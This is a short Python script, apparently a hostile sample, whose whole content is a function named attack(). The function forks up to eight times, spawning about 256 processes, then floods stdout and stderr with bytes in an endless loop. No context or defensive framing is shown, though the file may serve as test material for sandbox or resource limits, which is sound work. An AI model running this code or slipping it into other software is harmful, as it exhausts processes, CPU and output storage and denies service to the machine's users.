import os


def attack():
    for _ in range(8):
        try:
            os.fork()
        except OSError:
            break
    while True:
        os.write(1, b"x")
        os.write(2, b"y")
